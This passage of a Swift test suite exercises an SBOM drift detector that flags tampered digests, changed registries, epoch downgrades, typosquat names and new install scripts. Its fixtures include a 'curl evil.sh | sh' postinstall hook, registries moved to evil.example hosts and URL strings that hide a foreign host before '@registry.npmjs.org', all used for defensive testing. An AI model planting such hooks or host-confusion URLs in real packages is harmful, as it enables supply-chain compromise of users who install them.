import Catalog
@testable import Drift
import Foundation
import ProvenantCore
import SBOM
import TestSupport
import Testing

/// A fresh directory under the temporary folder, removed by the caller.
func scratchDirectory(_ name: String = "drift") throws -> URL {
    let dir = FileManager.default.temporaryDirectory.appendingPathComponent("\(name)-\(UUID().uuidString)")
    try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
    return dir
}

func fixture(_ name: String) throws -> URL {
    try #require(Bundle.module.url(forResource: "Fixtures/" + name, withExtension: nil))
}

/// Catalogs one file or directory the way `diff` does for a side that is not a document.
func catalog(_ path: String, config: [String] = []) async throws -> Inventory {
    var c = Cataloger()
    c.config = ConfigSelection(globs: config)
    return try await c.catalog(path)
}

func compare(_ a: Inventory, _ b: Inventory, policy: DriftPolicy? = nil, names: [String] = [], today: String = "2026-12-01") -> SBOMDiff {
    var o = SBOMDiff.Options(today: today)
    o.policy = policy
    o.knownNames = names
    return SBOMDiff.compare(baseline: a, current: b, options: o)
}

/// (rule, subject) pairs, the shape most assertions compare.
func pairs(_ fs: [DriftFinding]) -> Set<String> { Set(fs.map { "\($0.rule.rawValue) \($0.subject)" }) }

/// An inventory from a CycloneDX document's components, read as `diff` reads a document side.
func document(_ components: [String], extra: String = "") throws -> Inventory {
    let json = #"{"bomFormat": "CycloneDX", "specVersion": "1.5", "version": 1, "components": ["# + components.joined(separator: ",") + "]" + extra + "}"
    return try SBOMReader.read(Data(json.utf8), path: "bom.json", keepingComponentsWithoutPurl: true)
}

/// Four ways a change passed `diff` unseen (found by helper-131).
@Suite struct DiffHiddenChangeTests {
    let sha = #""hashes": [{"alg": "SHA-256", "content": "\#(String(repeating: "a", count: 64))"}]"#
    let config = { (d: Character) in #"{"type": "file", "name": "etc/app.conf", "hashes": [{"alg": "SHA-256", "content": "\#(String(repeating: d, count: 64))"}], "properties": [{"name": "provenant:role", "value": "configuration"}]}"# }

    /// The same version respelt (`1.0` to `1.0.0`) with its digest dropped is not compared, and says so.
    @Test func aRespeltVersionWithoutDigestsIsNotChecked() throws {
        let before = try document([#"{"type": "library", "name": "foo", "version": "1.0", "purl": "pkg:pypi/foo@1.0", \#(sha)}"#])
        let respelt = try document([#"{"type": "library", "name": "foo", "version": "1.0.0", "purl": "pkg:pypi/foo@1.0.0"}"#])
        let d = compare(before, respelt)
        #expect(pairs(d.findings).contains("drift:upgraded pkg:pypi/foo"), "\(pairs(d.findings))")
        #expect(d.contentNotCompared == ["pkg:pypi/foo@1.0.0"], "\(d.contentNotCompared)")
        let kept = try document([#"{"type": "library", "name": "foo", "version": "1.0.0", "purl": "pkg:pypi/foo@1.0.0", \#(sha)}"#])
        #expect(compare(before, kept).contentNotCompared.isEmpty)
    }

    /// trivy writes a Debian or RPM epoch as a qualifier: `2.38.1` with epoch 1 to `2.38.2` read as a
    /// patch upgrade, approved by `patch-upgrades`, where it is a downgrade (found by helper-170).
    @Test func anEpochQualifierOrdersTheVersion() throws {
        func deb(_ purl: String, _ d: Character) -> String {
            #"{"type": "library", "name": "foo", "purl": "\#(purl)", "hashes": [{"alg": "SHA-256", "content": "\#(String(repeating: d, count: 64))"}]}"#
        }
        let policy = try DriftPolicy.parse("approve:\n  - allow: patch-upgrades\n", path: "p.yaml")
        for (purl, type) in [("pkg:deb/debian/foo@2.38.1?arch=amd64&epoch=1", "deb"), ("pkg:rpm/redhat/foo@2.38.1-5?arch=x86_64&epoch=1", "rpm")] {
            let newer = type == "deb" ? "pkg:deb/debian/foo@2.38.2?arch=amd64" : "pkg:rpm/redhat/foo@2.38.2-5?arch=x86_64"
            let d = compare(try document([deb(purl, "a")]), try document([deb(newer, "b")]), policy: policy)
            #expect(pairs(d.findings).contains("drift:downgraded pkg:\(type)/\(type == "deb" ? "debian" : "redhat")/foo"), "\(type): \(pairs(d.findings)) approved: \(pairs(d.approved))")
            #expect(d.approved.isEmpty, "\(pairs(d.approved))")
        }
        // The same epoch written either way is the same version: nothing changed.
        let inline = compare(try document([deb("pkg:deb/debian/foo@1:2.38.1?arch=amd64", "a")]), try document([deb("pkg:deb/debian/foo@2.38.1?arch=amd64&epoch=1", "a")]))
        #expect(inline.findings.isEmpty, "\(pairs(inline.findings))")
    }

    /// The first near miss of a new name was the only one judged: a gem `Lodahs` (a case-only match,
    /// which does not count across ecosystems) hid npm's `lodash` from a new npm `lodahs` (found by
    /// helper-170).
    @Test func aRefusedNearMissDoesNotHideTheNext() throws {
        func lib(_ purl: String, _ name: String) -> String { #"{"type": "library", "name": "\#(name)", "purl": "\#(purl)"}"# }
        let base = [lib("pkg:npm/lodash@4.17.21", "lodash"), lib("pkg:gem/Lodahs@1.0.0", "Lodahs")]
        let d = compare(try document(base), try document(base + [lib("pkg:npm/lodahs@1.0.0", "lodahs")]))
        let lookalike = d.findings.first { $0.rule == .lookalike }
        #expect(lookalike?.subject == "pkg:npm/lodahs@1.0.0" && lookalike?.message.contains("'lodash'") == true, "\(pairs(d.findings))")
    }

    /// A second copy of a release under another spelling of its version (`4.17.21+1` beside `4.17.21`,
    /// `2.31.0.0` beside `2.31.0`) with other bytes was only an addition, low (found by helper-170).
    @Test func aRespeltSecondCopyIsComparedWithTheRelease() throws {
        func lib(_ purl: String, _ d: Character) -> String {
            #"{"type": "library", "name": "x", "purl": "\#(purl)", "hashes": [{"alg": "SHA-256", "content": "\#(String(repeating: d, count: 64))"}]}"#
        }
        for (kept, respelt) in [("pkg:npm/lodash@4.17.21", "pkg:npm/lodash@4.17.21%2B1"), ("pkg:pypi/requests@2.31.0", "pkg:pypi/requests@2.31.0.0")] {
            let d = compare(try document([lib(kept, "a")]), try document([lib(kept, "a"), lib(respelt, "b")]))
            #expect(d.findings.contains { $0.rule == .tampered }, "\(respelt): \(pairs(d.findings))")
            let same = compare(try document([lib(kept, "a")]), try document([lib(kept, "a"), lib(respelt, "a")]))
            #expect(!same.findings.contains { $0.rule == .tampered }, "\(respelt): \(pairs(same.findings))")
        }
    }

    /// A second copy of the same version, with no digest, beside the checked one.
    @Test func aSecondCopyWithoutDigestIsNotChecked() throws {
        let before = try document([#"{"type": "library", "name": "foo", "version": "1.0", "purl": "pkg:pypi/foo@1.0", \#(sha)}"#])
        let after = try document([#"{"type": "library", "name": "foo", "version": "1.0", "purl": "pkg:pypi/foo@1.0", \#(sha)}"#,
                                  #"{"type": "library", "name": "foo", "version": "1.0", "purl": "pkg:pypi/foo@1.0?file_name=foo-1.0-evil.whl"}"#])
        #expect(compare(before, after).contentNotCompared == ["pkg:pypi/foo@1.0"])
        // A digestless copy the baseline had as it is stays as comparable as it was.
        #expect(compare(after, after).contentNotCompared.isEmpty)
        #expect(compare(before, before).contentNotCompared.isEmpty)
    }

    /// A second entry for a configuration path, with the approved digest, beside a changed one.
    @Test func aDuplicateConfigEntryDoesNotHideAChange() throws {
        let before = try document([config("a")])
        for after in [[config("a"), config("b")], [config("b"), config("a")]] {
            let d = compare(before, try document(after))
            #expect(pairs(d.findings) == ["drift:config-changed etc/app.conf"], "\(pairs(d.findings))")
        }
        #expect(compare(before, try document([config("a"), config("a")])).findings.isEmpty)
    }

    /// An image compared with an SBOM that has no image facts: how it runs was compared with nothing.
    @Test func imageFactsOnOneSideOnlyAreNotChecked() throws {
        let plain = try document([#"{"type": "library", "name": "foo", "version": "1.0", "purl": "pkg:pypi/foo@1.0", \#(sha)}"#])
        var image = plain
        image.image = ImageInfo(reference: "example.com/app", name: "example.com/app", imageID: "sha256:" + String(repeating: "1", count: 64))
        for (b, a) in [(plain, image), (image, plain)] {
            let d = compare(b, a)
            #expect(d.imageTextNotCompared == ["settings"], "\(d.imageTextNotCompared)")
            #expect(d.notes.contains { $0.hasPrefix("NOT CHECKED:") && $0.contains("no image facts") }, "\(d.notes)")
        }
        #expect(compare(plain, plain).imageTextNotCompared.isEmpty && compare(image, image).imageTextNotCompared.isEmpty)
    }
}

/// The real cdxgen npm lockfile (v3) and an edited copy that makes one of each finding.
struct NpmEdits {
    let base: URL, current: URL, dir: URL

    init() throws {
        dir = try scratchDirectory("npm-drift")
        let data = try Data(contentsOf: try fixture("package-lock-v3.json"))
        var doc = try #require(try JSONSerialization.jsonObject(with: data) as? [String: Any])
        var pk = try #require(doc["packages"] as? [String: Any])
        func edit(_ key: String, _ body: (inout [String: Any]) -> Void) throws {
            var e = try #require(pk[key] as? [String: Any])
            body(&e)
            pk[key] = e
        }
        // Re-published under the same version: another integrity.
        try edit("node_modules/semver") { $0["integrity"] = "sha512-" + String(repeating: "A", count: 86) + "==" }
        // The same tarball, now from another host.
        try edit("node_modules/tar") { $0["resolved"] = ($0["resolved"] as? String ?? "").replacingOccurrences(of: "registry.npmjs.org", with: "npm.evil.example") }
        // A new package pulled in by an existing dependency, with an install script.
        try edit("node_modules/glob") { e in
            var d = e["dependencies"] as? [String: Any] ?? [:]
            d["fs-helperz"] = "^1.0.0"
            e["dependencies"] = d
        }
        pk["node_modules/fs-helperz"] = ["version": "1.0.0", "resolved": "https://registry.npmjs.org/fs-helperz/-/fs-helperz-1.0.0.tgz",
                                         "integrity": "sha512-" + String(repeating: "B", count: 86) + "==", "hasInstallScript": true]
        try edit("node_modules/uuid") { $0["version"] = "8.3.2" }
        try edit("node_modules/yargs") { $0["version"] = "17.7.9" }
        try edit("") { e in
            var d = e["dependencies"] as? [String: Any] ?? [:]
            d["js-yamI"] = "^4.1.0"
            e["dependencies"] = d
        }
        pk["node_modules/js-yamI"] = ["version": "4.1.0", "resolved": "https://registry.npmjs.org/js-yamI/-/js-yamI-4.1.0.tgz"]
        // A direct dependency dropped.
        pk["node_modules/xmlbuilder"] = nil
        try edit("") { e in
            var d = e["dependencies"] as? [String: Any] ?? [:]
            d["xmlbuilder"] = nil
            e["dependencies"] = d
        }
        doc["packages"] = pk
        try FileManager.default.createDirectory(at: dir.appendingPathComponent("before"), withIntermediateDirectories: true)
        try FileManager.default.createDirectory(at: dir.appendingPathComponent("after"), withIntermediateDirectories: true)
        base = dir.appendingPathComponent("before/package-lock.json")
        current = dir.appendingPathComponent("after/package-lock.json")
        try data.write(to: base)
        try JSONSerialization.data(withJSONObject: doc, options: [.prettyPrinted, .sortedKeys]).write(to: current)
    }
}

@Suite struct DiffTests {
    @Test func aRealLockfileEditedMakesEachFinding() async throws {
        let e = try NpmEdits()
        defer { try? FileManager.default.removeItem(at: e.dir) }
        let d = compare(try await catalog(e.base.path), try await catalog(e.current.path))
        #expect(pairs(d.findings) == [
            "drift:tampered pkg:npm/semver@7.5.0",
            "drift:source-changed pkg:npm/tar@6.1.14",
            "drift:new-transitive pkg:npm/fs-helperz@1.0.0",
            "drift:install-script pkg:npm/fs-helperz@1.0.0",
            "drift:downgraded pkg:npm/uuid",
            "drift:upgraded pkg:npm/yargs",
            "drift:added pkg:npm/js-yami@4.1.0",
            "drift:lookalike pkg:npm/js-yami@4.1.0",
            "drift:removed pkg:npm/xmlbuilder@15.1.1",
        ])
        let tampered = try #require(d.findings.first { $0.rule == .tampered })
        #expect(tampered.severity == .critical)
        #expect(tampered.message.contains("SHA-512"))
        #expect(tampered.location?.line != nil)
        let path = try #require(d.findings.first { $0.rule == .newTransitive })
        #expect(path.message.contains("pkg:npm/glob@8.1.0 > pkg:npm/fs-helperz@1.0.0"))
        #expect(d.findings.first == tampered, "most severe first")
    }

    @Test func identicalSidesHaveNoFindings() async throws {
        let lock = try fixture("package-lock-v3.json").path
        let d = compare(try await catalog(lock), try await catalog(lock))
        #expect(d.findings.isEmpty)
        #expect(d.baselineCount > 100)
    }

    @Test func aCargoChecksumSwapIsTamperingOfBoth() async throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let text = try String(contentsOf: try fixture("Cargom.lock"), encoding: .utf8)
        var lines = text.components(separatedBy: "\n")
        let sums = lines.indices.filter { lines[$0].hasPrefix("checksum = ") }
        let (i, j) = (sums[3], sums[10])
        lines.swapAt(i, j)
        func nameAbove(_ k: Int) -> String {
            let n = lines[..<k].last { $0.hasPrefix("name = ") } ?? ""
            let v = lines[..<k].last { $0.hasPrefix("version = ") } ?? ""
            return "pkg:cargo/" + n.dropFirst(8).dropLast() + "@" + v.dropFirst(11).dropLast()
        }
        // Named Cargo.lock, so no other format's reader gets to guess at it.
        for side in ["a", "b"] { try FileManager.default.createDirectory(at: dir.appendingPathComponent(side), withIntermediateDirectories: true) }
        let original = dir.appendingPathComponent("a/Cargo.lock"), swapped = dir.appendingPathComponent("b/Cargo.lock")
        try text.write(to: original, atomically: true, encoding: .utf8)
        try lines.joined(separator: "\n").write(to: swapped, atomically: true, encoding: .utf8)
        let d = compare(try await catalog(original.path), try await catalog(swapped.path))
        #expect(pairs(d.findings) == ["drift:tampered \(nameAbove(i))", "drift:tampered \(nameAbove(j))"])
    }

    @Test func aMovedRegistryAndANewGitCommitAreSourceChanges() async throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        func lock(_ registry: String, _ commit: String) -> String {
            """
            version = 3

            [[package]]
            name = "app"
            version = "0.1.0"
            dependencies = ["serde", "tokio-util"]

            [[package]]
            name = "serde"
            version = "1.0.200"
            source = "\(registry)"
            checksum = "ddc6f9cc94d67c0e21aaf7eda3a010fd3af78ebf6e096aa6e2e13c79749cce4f"

            [[package]]
            name = "tokio-util"
            version = "0.7.11"
            source = "git+https://github.com/tokio-rs/tokio?branch=master#\(commit)"
            """
        }
        for side in ["a", "b"] { try FileManager.default.createDirectory(at: dir.appendingPathComponent(side), withIntermediateDirectories: true) }
        let a = dir.appendingPathComponent("a/Cargo.lock"), b = dir.appendingPathComponent("b/Cargo.lock")
        try lock("registry+https://github.com/rust-lang/crates.io-index", String(repeating: "1", count: 40)).write(to: a, atomically: true, encoding: .utf8)
        try lock("registry+https://crates.evil.example/index", String(repeating: "2", count: 40)).write(to: b, atomically: true, encoding: .utf8)
        let d = compare(try await catalog(a.path), try await catalog(b.path))
        #expect(pairs(d.findings) == ["drift:source-changed pkg:cargo/serde@1.0.200", "drift:source-changed pkg:cargo/tokio-util@0.7.11"])
        #expect(d.findings.contains { $0.message.contains("crates.evil.example") })
        #expect(d.findings.contains { $0.message.contains("new commit") && $0.message.contains(String(repeating: "2", count: 40)) })
    }

    /// A source dropped from the lockfile passed: npm then fetches from whatever registry `.npmrc` names,
    /// and a Cargo package without `source` is a local path (found by a hunt). It is a finding where the
    /// current side records sources for other packages, and NOT CHECKED once where it records none.
    @Test func aDroppedSourceIsAFindingOrNotChecked() async throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let integrity = "sha512-" + Data(repeating: 7, count: 64).base64EncodedString()
        func entry(_ name: String, _ resolved: Bool) -> String {
            "\"node_modules/\(name)\": {\"version\": \"1.3.0\", "
                + (resolved ? "\"resolved\": \"https://registry.npmjs.org/\(name)/-/\(name)-1.3.0.tgz\", " : "") + "\"integrity\": \"\(integrity)\"}"
        }
        func lock(_ a: Bool, _ b: Bool) -> String {
            "{\"name\": \"x\", \"version\": \"1.0.0\", \"lockfileVersion\": 3, \"packages\": {\"\": {\"name\": \"x\", \"version\": \"1.0.0\"}, "
                + entry("left-pad", a) + ", " + entry("right-pad", b) + "}}"
        }
        for (name, a, b) in [("base", true, true), ("dropped", false, true), ("none", false, false)] {
            try FileManager.default.createDirectory(at: dir.appendingPathComponent(name), withIntermediateDirectories: true)
            try lock(a, b).write(to: dir.appendingPathComponent("\(name)/package-lock.json"), atomically: true, encoding: .utf8)
        }
        let base = try await catalog(dir.appendingPathComponent("base").path)
        let dropped = compare(base, try await catalog(dir.appendingPathComponent("dropped").path))
        #expect(pairs(dropped.findings) == ["drift:source-changed pkg:npm/left-pad@1.3.0"])
        #expect(dropped.findings.first?.message.contains("no longer records where it is resolved from (was registry.npmjs.org)") == true)
        #expect(!dropped.sourcesNotCompared)
        let none = compare(base, try await catalog(dir.appendingPathComponent("none").path))
        #expect(none.findings.isEmpty && none.sourcesNotCompared)
        #expect(none.notes.contains { $0.hasPrefix("NOT CHECKED") && $0.contains("no package's source") })
        // A baseline without sources compares nothing and says nothing about it.
        let reverse = compare(try await catalog(dir.appendingPathComponent("none").path), base)
        #expect(reverse.findings.isEmpty && !reverse.sourcesNotCompared)
    }

    /// A second lockfile resolving the same name and version from another host was folded into the one
    /// component, its source dropped: in no SBOM format, and `diff` passed it (found by helper-90). Every
    /// source is kept, written in CycloneDX and SPDX, read back, and compared.
    @Test func aSecondSourceForTheSameVersionIsKeptAndCompared() async throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        func lock(_ app: String, _ source: String) -> String {
            "version = 3\n\n[[package]]\nname = \"\(app)\"\nversion = \"0.1.0\"\ndependencies = [\"serde\"]\n\n[[package]]\nname = \"serde\"\nversion = \"1.0.0\"\nsource = \"\(source)\"\n"
        }
        for d in ["base/rs", "cur/rs", "cur/zz"] { try FileManager.default.createDirectory(at: dir.appendingPathComponent(d), withIntermediateDirectories: true) }
        let registry = "registry+https://github.com/rust-lang/crates.io-index", evil = "git+https://evil.example.com/serde#" + String(repeating: "0", count: 40)
        try lock("app", registry).write(to: dir.appendingPathComponent("base/rs/Cargo.lock"), atomically: true, encoding: .utf8)
        try lock("app", registry).write(to: dir.appendingPathComponent("cur/rs/Cargo.lock"), atomically: true, encoding: .utf8)
        try lock("tool", evil).write(to: dir.appendingPathComponent("cur/zz/Cargo.lock"), atomically: true, encoding: .utf8)
        let before = try await catalog(dir.appendingPathComponent("base").path), after = try await catalog(dir.appendingPathComponent("cur").path)
        #expect(after.packages.first { $0.name == "serde" }?.otherSources == [evil])
        #expect(pairs(compare(before, after).findings) == ["drift:source-changed pkg:cargo/serde@1.0.0"])
        #expect(compare(after, after).findings.isEmpty)
        // yarn writes npm's registry under its own name, with the tarball's sha1 after '#': the same
        // source, not a change (found by review).
        #expect(SBOMDiff.sourceChange("https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz",
                                      "https://registry.yarnpkg.com/lodash/-/lodash-4.17.21.tgz#679591c564c3bffaae8454cf0b3df370c3d6911c", sameVersion: true) == nil)
        #expect(SBOMDiff.sourceChange("https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz", "https://evil.example/lodash/-/lodash-4.17.21.tgz", sameVersion: true) != nil)
        // The host is where a URL parser finds it: `?`, `#` and `\` end the authority, so text after
        // them that looks like userinfo and a host is not the host (found by helper-131).
        for hidden in ["https://evil.example?@registry.npmjs.org/lodash/-/lodash-4.17.21.tgz",
                       "https://evil.example\\@registry.npmjs.org/lodash/-/lodash-4.17.21.tgz",
                       "https://evil.example#@registry.npmjs.org/lodash/-/lodash-4.17.21.tgz",
                       "https://evil.exa\tmple?@registry.npmjs.org/lodash/-/lodash-4.17.21.tgz"] {
            let change = SBOMDiff.sourceChange("https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz", hidden, sameVersion: false)
            #expect(change?.contains("now from https://evil.example") == true, "\(hidden): \(change ?? "no change")")
        }
        // Userinfo before the host is still not the host.
        #expect(SBOMDiff.sourceChange("https://registry.npmjs.org/lodash/-/lodash-4.17.20.tgz", "https://user:pw@registry.npmjs.org/lodash/-/lodash-4.17.21.tgz", sameVersion: false) == nil)
        // A git source over https names its commit after '#' (yarn, poetry): a new commit is still a change.
        #expect(SBOMDiff.sourceChange("https://github.com/a/b.git#" + String(repeating: "1", count: 40), "https://github.com/a/b.git#" + String(repeating: "2", count: 40), sameVersion: true) != nil)
        let info = try DocumentInfo(toolVersion: "test", environment: ["SOURCE_DATE_EPOCH": "1700000000"])
        for format in [OutputFormat.cyclonedxJSON, .spdxJSON] {
            let doc = dir.appendingPathComponent("cur.\(format.rawValue)")
            try format.render(after, info: info).write(to: doc, atomically: true, encoding: .utf8)
            let read = try #require(try DriftInput.read(doc.path))
            #expect(read.packages.first { $0.name == "serde" }?.otherSources == [evil], "\(format)")
            #expect(pairs(compare(before, read).findings) == ["drift:source-changed pkg:cargo/serde@1.0.0"], "\(format)")
        }
    }

    /// Packages are paired by purl without qualifiers, so one name and version may be several
    /// components: a `?x=1` copy's install script, license and source were not looked at, only the
    /// first copy's (found by helper-106). Every copy counts.
    @Test func everyCopyOfAPairedPackageIsCompared() throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let h = String(repeating: "a", count: 64)
        func component(_ name: String, _ version: String, _ qualifiers: String = "", license: String? = nil, script: String? = nil, url: String? = nil) -> String {
            var c = #"{"type":"library","name":"\#(name)","version":"\#(version)","purl":"pkg:npm/\#(name)@\#(version)\#(qualifiers)","hashes":[{"alg":"SHA-256","content":"\#(h)"}]"#
            if let license { c += #","licenses":[{"license":{"id":"\#(license)"}}]"# }
            if let script { c += #","properties":[{"name":"provenant:install-script","value":"\#(script)"}]"# }
            if let url { c += #","externalReferences":[{"type":"distribution","url":"\#(url)"}]"# }
            return c + "}"
        }
        func side(_ name: String, _ components: [String]) throws -> Inventory {
            let path = dir.appendingPathComponent(name).path
            try #"{"bomFormat":"CycloneDX","specVersion":"1.5","components":[\#(components.joined(separator: ","))]}"#.write(toFile: path, atomically: true, encoding: .utf8)
            return try #require(try DriftInput.read(path))
        }
        let base = try side("base.json", [component("foo", "1.0.0", license: "MIT"), component("bar", "1.0.0", url: "https://registry.npmjs.org/bar/-/bar-1.0.0.tgz")])
        let cur = try side("cur.json", [
            component("foo", "1.0.0", license: "MIT"),
            component("foo", "1.0.0", "?x=1", license: "GPL-3.0-only", script: "postinstall: curl evil.sh | sh"),
            component("bar", "1.0.1", url: "https://registry.npmjs.org/bar/-/bar-1.0.1.tgz"),
            component("bar", "1.0.1", "?y=1", script: "install: evil", url: "https://evil.example/bar-1.0.1.tgz"),
            component("new", "1.0.0"), component("new", "1.0.0", "?z=1", script: "postinstall: steal"),
        ])
        let found = pairs(compare(base, cur).findings)
        #expect(found.isSuperset(of: ["drift:install-script pkg:npm/foo@1.0.0", "drift:license-changed pkg:npm/foo@1.0.0",
                                      "drift:install-script pkg:npm/bar@1.0.1", "drift:source-changed pkg:npm/bar@1.0.1",
                                      "drift:install-script pkg:npm/new@1.0.0"]), "\(found)")
        #expect(compare(cur, cur).findings.isEmpty)
    }

    /// A case-only difference is a lookalike within one purl type that keeps case (Go), not across
    /// types, nor for a component without a purl (review of helper-106's fix).
    @Test func caseOnlyLookalikesStayWithinAType() throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        func side(_ name: String, _ components: [(String, String?)]) throws -> Inventory {
            let items = components.map { n, purl in #"{"type":"library","name":"\#(n)","version":"1"\#(purl.map { #","purl":"\#($0)""# } ?? "")}"# }
            let path = dir.appendingPathComponent(name).path
            try #"{"bomFormat":"CycloneDX","specVersion":"1.5","components":[\#(items.joined(separator: ","))]}"#.write(toFile: path, atomically: true, encoding: .utf8)
            return try #require(try DriftInput.read(path))
        }
        let base = try side("b.json", [("Ascii85", "pkg:gem/Ascii85@1"), ("logrus", "pkg:golang/github.com/sirupsen/logrus@1"), ("Foo", "pkg:gem/Foo@1")])
        let cur = try side("c.json", [("Ascii85", "pkg:gem/Ascii85@1"), ("logrus", "pkg:golang/github.com/sirupsen/logrus@1"), ("Foo", "pkg:gem/Foo@1"),
                                      ("ascii85", "pkg:npm/ascii85@1"), ("logrus", "pkg:golang/github.com/SirupSen/logrus@1"), ("Foo", nil)])
        let lookalikes = compare(base, cur).findings.filter { $0.rule == .lookalike }.map(\.subject)
        #expect(lookalikes == ["pkg:golang/github.com/SirupSen/logrus@1"], "\(lookalikes)")
    }

    /// The baseline as CycloneDX and the current side as SPDX (and as Provenant's inventory) give the
    /// same findings as the two lockfiles: every fact diff needs survives the round trip.
    @Test func sbomsOfDifferentFormatsCompareByPurl() async throws {
        let e = try NpmEdits()
        defer { try? FileManager.default.removeItem(at: e.dir) }
        let before = try await catalog(e.base.path), after = try await catalog(e.current.path)
        let expected = pairs(compare(before, after).findings)
        let info = try DocumentInfo(toolVersion: "test", environment: ["SOURCE_DATE_EPOCH": "1700000000"])
        let cdx = e.dir.appendingPathComponent("base.cdx.json"), spdx = e.dir.appendingPathComponent("current.spdx.json")
        let inv = e.dir.appendingPathComponent("current.inventory.json")
        try OutputFormat.cyclonedxJSON.render(before, info: info).write(to: cdx, atomically: true, encoding: .utf8)
        try OutputFormat.spdxJSON.render(after, info: info).write(to: spdx, atomically: true, encoding: .utf8)
        try OutputFormat.json.render(after, info: info).write(to: inv, atomically: true, encoding: .utf8)
        if let out = ProcessInfo.processInfo.environment["PROVENANT_SBOM_OUT"] {
            try? FileManager.default.copyItem(at: spdx, to: URL(fileURLWithPath: out + "/drift-current.spdx.json"))
            try? FileManager.default.copyItem(at: cdx, to: URL(fileURLWithPath: out + "/drift-base.cdx.json"))
        }
        let fromDocs = try #require(try DriftInput.read(cdx.path))
        #expect(compare(fromDocs, try #require(try DriftInput.read(spdx.path))).findings.map(\.rule.rawValue).sorted() == expected.map { String($0.split(separator: " ")[0]) }.sorted())
        let fromInv = try #require(try DriftInput.read(inv.path))
        #expect(pairs(compare(fromDocs, fromInv).findings) == expected, "\(compare(fromDocs, fromInv).findings.map(\.message))")
        #expect(pairs(compare(fromDocs, try #require(try DriftInput.read(spdx.path))).findings) == expected)
    }

    /// Found by helper-122: `torch 2.0.0` → `2.0.0+evil` was a low, approvable upgrade. A PEP 440 local
    /// label names a build no index publishes: the same release, whose content must match.
    @Test func aPyPILocalLabelIsTheSameReleaseNotAnUpgrade() throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        func bom(_ v: String, _ hash: String) -> String {
            #"{"bomFormat":"CycloneDX","specVersion":"1.6","components":[{"type":"library","name":"torch","version":"\#(v)","purl":"pkg:pypi/torch@\#(v.replacingOccurrences(of: "+", with: "%2B"))","hashes":[{"alg":"SHA-256","content":"\#(String(repeating: hash, count: 64))"}]}]}"#
        }
        func diff(_ a: String, _ b: String) throws -> SBOMDiff {
            try a.write(to: dir.appendingPathComponent("a.json"), atomically: true, encoding: .utf8)
            try b.write(to: dir.appendingPathComponent("b.json"), atomically: true, encoding: .utf8)
            return compare(try #require(try DriftInput.read(dir.appendingPathComponent("a.json").path)),
                           try #require(try DriftInput.read(dir.appendingPathComponent("b.json").path)))
        }
        let local = try diff(bom("2.0.0", "a"), bom("2.0.0+evil", "b"))
        #expect(local.findings.contains { $0.rule == .upgraded && $0.message.contains("order as the same version") }, "\(local.findings.map(\.message))")
        #expect(local.findings.contains { $0.rule == .tampered }, "\(local.findings.map(\.message))")
        let relabelled = try diff(bom("2.0.0+cpu", "a"), bom("2.0.0+cu121", "a"))
        #expect(relabelled.findings.contains { $0.message.contains("order as the same version") } && !relabelled.findings.contains { $0.rule == .tampered })
        // Down by the label alone is still a downgrade, never softened to the same release (helper-123).
        let down = try diff(bom("2.1.0+cu121", "a"), bom("2.1.0", "a"))
        #expect(down.findings.contains { $0.rule == .downgraded }, "\(down.findings.map(\.message))")
        let real = try diff(bom("2.0.0", "a"), bom("2.0.1", "b"))
        #expect(real.findings.contains { $0.rule == .upgraded && $0.message.contains("went up") })
    }

    @Test func aComponentWithoutPurlIsPairedByNameAndSaysSo() throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        func bom(_ v: String) -> String {
            #"{"bomFormat":"CycloneDX","specVersion":"1.6","components":[{"type":"library","name":"libfoo","version":"\#(v)"},{"type":"library","name":"left-pad","version":"1.0.0","purl":"pkg:npm/left-pad@1.0.0"}]}"#
        }
        try bom("1.2.0").write(to: dir.appendingPathComponent("a.json"), atomically: true, encoding: .utf8)
        try bom("1.1.0").write(to: dir.appendingPathComponent("b.json"), atomically: true, encoding: .utf8)
        let d = compare(try #require(try DriftInput.read(dir.appendingPathComponent("a.json").path)),
                        try #require(try DriftInput.read(dir.appendingPathComponent("b.json").path)))
        #expect(pairs(d.findings) == ["drift:downgraded (no purl) libfoo"], "no ordering for a name-only component: a possible downgrade (high), not approvable")
        #expect(d.findings.first?.message.contains("order could not be read") == true)
        #expect(d.notes.contains { $0.contains("without a purl matched by name only") })
    }

    @Test func configurationFilesAreRecordedAndTheirChangesReported() async throws {
        let dir = try scratchDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let fm = FileManager.default
        for side in ["a", "b"] { try fm.createDirectory(at: dir.appendingPathComponent(side + "/etc"), withIntermediateDirectories: true) }
        func put(_ path: String, _ text: String) throws { try text.write(to: dir.appendingPathComponent(path), atomically: true, encoding: .utf8) }
        try put("a/provenant.agent.yaml", "name: collector\n")
        try put("b/provenant.agent.yaml", "name: collector\negress: [evil.example:443]\n")
        try put("a/etc/app.conf", "level=info\n")
        try put("b/etc/app.conf", "level=info\n")
        try put("a/etc/old.conf", "x=1\n")
        try put("b/etc/new.conf", "y=2\n")
        try put("b/etc/notes.txt", "not configuration\n")
        let a = try await catalog(dir.appendingPathComponent("a").path, config: ["etc/*.conf"])
        let b = try await catalog(dir.appendingPathComponent("b").path, config: ["etc/*.conf"])
        #expect(a.configFiles?.map(\.path) == ["etc/app.conf", "etc/old.conf", "provenant.agent.yaml"])
        let d = compare(a, b)
        #expect(pairs(d.findings) == ["drift:config-changed provenant.agent.yaml", "drift:config-changed etc/old.conf", "drift:config-changed etc/new.conf"])
        #expect(d.findings.allSatisfy { $0.severity == .high })
        // The SBOM carries them (a file component with its SHA-256, never the bytes) and reads them back.
        let info = try DocumentInfo(toolVersion: "test", environment: ["SOURCE_DATE_EPOCH": "1700000000"])
        let cdx = try OutputFormat.cyclonedxJSON.render(b, info: info)
        #expect(cdx.contains("\"provenant:role\"") && !cdx.contains("evil.example"))
        let file = dir.appendingPathComponent("b.cdx.json")
        try cdx.write(to: file, atomically: true, encoding: .utf8)
